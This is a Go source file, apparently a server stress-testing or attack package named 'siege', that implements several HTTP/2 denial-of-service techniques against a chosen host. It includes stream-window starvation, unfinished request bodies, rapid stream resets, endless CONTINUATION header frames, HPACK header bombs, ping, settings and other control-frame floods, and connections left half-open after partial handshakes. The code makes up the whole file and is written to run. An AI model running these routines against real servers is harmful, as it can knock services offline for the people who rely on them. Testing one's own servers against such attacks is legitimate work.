package siege

import (
	"bytes"
	"context"
	"errors"
	"net"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// two is a connection of HTTP/2 that does what no client should.
type two struct {
	*http2.Framer
	t    Target
	head bytes.Buffer
	enc  *hpack.Encoder
	next uint32 // stream
}

// speak begins HTTP/2 on a connection: no stream may be sent more than window bytes.
func (t Target) speak(c net.Conn, window uint32) (*two, error) {
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	s := &two{Framer: http2.NewFramer(c, c), t: t, next: 1}
	s.enc = hpack.NewEncoder(&s.head)
	s.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	return s, s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

// ask begins a request and returns its stream. With size, a body of so many bytes is announced.
func (s *two) ask(method string, size int64, more ...string) (uint32, error) {
	path := s.t.Path
	if path == "" {
		path = "/"
	}
	s.head.Reset()
	fields := []string{":method", method, ":scheme", "https", ":authority", s.t.Host, ":path", path}
	if size > 0 {
		fields = append(fields, "content-length", strconv.FormatInt(size, 10))
	}
	for line := range strings.SplitSeq(s.t.Header, "\r\n") {
		if name, value, ok := strings.Cut(line, ": "); ok {
			fields = append(fields, strings.ToLower(name), value)
		}
	}
	fields = append(fields, more...)
	for i := 0; i < len(fields); i += 2 {
		if err := s.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}); err != nil {
			return 0, err
		}
	}
	stream := s.next
	s.next += 2
	return stream, s.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: s.head.Bytes(), EndStream: size == 0, EndHeaders: true})
}

// listen reads frames until the connection ends, and notes statuses and streams that were reset.
// It tells the node of no byte that it read, so that windows run out.
func (s *two) listen(ctx context.Context, a *Attack) {
	for {
		f, err := s.ReadFrame()
		if _, ofOne := errors.AsType[http2.StreamError](err); err != nil && !ofOne {
			a.ended(ctx)
			return
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			status, _ := strconv.Atoi(f.PseudoValue("status"))
			a.mu.Lock()
			a.statuses[status]++
			a.mu.Unlock()
		case *http2.RSTStreamFrame:
			a.Resets.Add(1)
		}
	}
}

// streams opens n connections with each many requests, which begin as one says.
func (t Target) streams(ctx context.Context, n, each int, window uint32, one func(s *two) error) *Attack {
	return t.begin(ctx, n, func(a *Attack, c net.Conn) {
		s, err := t.speak(c, window)
		heard := make(chan struct{})
		if err == nil {
			a.group.Go(func() { defer close(heard); s.listen(ctx, a) })
		} else {
			close(heard)
		}
		for i := 0; i < each && err == nil; i++ {
			err = one(s)
		}
		if err == nil {
			a.Ready.Add(1)
		}
		<-heard
		if err != nil && s == nil {
			a.ended(ctx)
		}
	})
}

// UnreadStreams asks for each many responses on each of n connections of HTTP/2, and has room
// for window bytes of each.
func (t Target) UnreadStreams(ctx context.Context, n, each int, window uint32) *Attack {
	return t.streams(ctx, n, each, window, func(s *two) error { _, err := s.ask("GET", 0); return err })
}

// UnfinishedStreams announces each many bodies of size bytes on each of n connections, and sends
// only a part of each.
func (t Target) UnfinishedStreams(ctx context.Context, n, each int, size int64, sent int) *Attack {
	return t.streams(ctx, n, each, 1<<20, func(s *two) error {
		stream, err := s.ask("POST", size)
		if err == nil && sent > 0 {
			err = s.WriteData(stream, false, filler[:sent])
		}
		return err
	})
}

// TakenBack asks, and takes each request back at once, until the node ends the connection or
// most were sent.
func (t Target) TakenBack(ctx context.Context, n, most int) *Attack {
	return t.streams(ctx, n, most, 1<<20, func(s *two) error {
		stream, err := s.ask("GET", 0)
		if err == nil {
			err = s.WriteRSTStream(stream, http2.ErrCodeCancel)
		}
		return err
	})
}

// EndlessHeaders sends a request whose headers do not end.
func (t Target) EndlessHeaders(ctx context.Context, n, most int) *Attack {
	return t.streams(ctx, n, 1, 1<<20, func(s *two) error {
		field := append([]byte{0, 1, 'a', 127, 0x81, 0x7e}, bytes.Repeat([]byte("b"), 16383-127+127-1)...)
		field = field[:16<<10-1]
		err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: nil})
		for i := 0; i < most && err == nil; i++ {
			err = s.WriteContinuation(1, false, field)
		}
		return err
	})
}

// LargeHeaders asks with headers that are short on the line and long when they are unpacked, and
// has no room for what is said to that.
func (t Target) LargeHeaders(ctx context.Context, n, each int) *Attack {
	long := strings.Repeat("x", 3000)
	more := []string{}
	for range 40 {
		more = append(more, "x-long", long)
	}
	return t.streams(ctx, n, each, 0, func(s *two) error { _, err := s.ask("GET", 0, more...); return err })
}

// Chatter sends pings, settings, or whatever say writes, as fast as it can, and asks for nothing.
func (t Target) Chatter(ctx context.Context, n int, what string) *Attack {
	return t.streams(ctx, n, 1<<30, 1<<20, func(s *two) error {
		if s.next == 1 { // a stream that windows and empty frames are for
			if _, err := s.ask("POST", 1<<20); err != nil {
				return err
			}
		}
		switch what {
		case "ping":
			return s.WritePing(false, [8]byte{})
		case "settings":
			return s.WriteSettings()
		case "window":
			return s.WriteWindowUpdate(0, 1)
		case "priority":
			return s.WritePriority(1, http2.PriorityParam{Weight: 1})
		case "data":
			return s.WriteData(1, false, nil)
		default:
			return s.WriteRawFrame(0xfa, 0, 0, []byte(what))
		}
	})
}

// SilentAfter makes n connections that stay silent after sending what raw is: half a handshake,
// or half of anything.
func (t Target) SilentAfter(ctx context.Context, n int, raw string) *Attack {
	return t.begin(ctx, n, func(a *Attack, c net.Conn) {
		_, _ = c.Write([]byte(raw))
		a.Ready.Add(1)
		for buffer := make([]byte, 1<<10); ; {
			_ = c.SetReadDeadline(time.Now().Add(time.Minute))
			if _, err := c.Read(buffer); err != nil {
				a.ended(ctx)
				return
			}
		}
	})
}
